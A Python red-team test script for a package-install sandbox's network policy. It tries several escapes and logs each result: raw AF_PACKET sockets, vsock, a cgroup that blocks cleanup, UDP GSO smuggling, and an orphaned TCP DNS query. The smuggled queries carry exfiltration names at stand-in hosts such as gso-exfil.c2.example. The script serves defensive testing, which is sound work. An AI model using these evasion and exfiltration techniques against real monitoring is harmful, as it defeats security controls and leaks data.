#!/usr/bin/env python3
# tests/enforce/redteam.py - the traced command of tests/it/enforce_redteam.sh:
# routes around the network policy that an earlier --enforce let through.
# Writes one "name result" line per attempt to the file given.
#   orphan-dns   a DNS query over TCP to the allowed resolver for a name
#                that is not a registry's, then exit at once: the refused
#                segment stays queued in the orphaned socket, and the kernel
#                retransmits it after pkgtrace has exited
#   packet       AF_PACKET (root: a frame on lo, past cgroup_skb/egress)
#   sock-packet  (AF_INET, SOCK_PACKET): the same, by its old name
#   vsock        AF_VSOCK: the hypervisor's host (only created, never used)
#   subcgroup    (root) a cgroup inside the install's own, which kept it
#                from being removed
#   gso          UDP GSO to the resolver: one send cut into two datagrams
#                after the packet check, an allowed query and then a query
#                for gso-exfil.c2.example
import errno, os, socket, struct, sys

out = open(sys.argv[1], "w")

def note(name, fn):
    try:
        fn()
        out.write("%s created\n" % name)
    except OSError as e:
        out.write("%s error %s\n" % (name, errno.errorcode.get(e.errno, e.errno)))
    out.flush()

def query(name):
    q = struct.pack("!HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\0" + struct.pack("!HH", 1, 1)

note("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)).close())
note("sock-packet", lambda: socket.socket(socket.AF_INET, 10, socket.htons(3)).close())
note("vsock", lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).close())
q1, q2 = query("registry.test"), query("gso-exfil.c2.example")
seg = max(len(q1), len(q2))
g = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
def gso():
    g.setsockopt(socket.SOL_UDP, 103, seg)  # UDP_SEGMENT
    g.sendto(q1 + b"\0" * (seg - len(q1)) + q2, ("127.0.0.1", 53))
note("gso", gso)
cg = open("/proc/self/cgroup").read().split("0::", 1)[1].strip()
mnt = [l.split()[4] for l in open("/proc/self/mountinfo") if " - cgroup2 " in l][0]
os.mkdir(mnt + cg + "/sub")
out.write("subcgroup %s\n" % cg)
s = socket.socket()
s.connect(("127.0.0.1", 53))
q = query("orphan-exfil.c2.example")
s.send(struct.pack("!H", len(q)) + q)
out.write("orphan-dns sent\n")
out.close()
# no close, no wait: the socket is orphaned with its refused segment queued
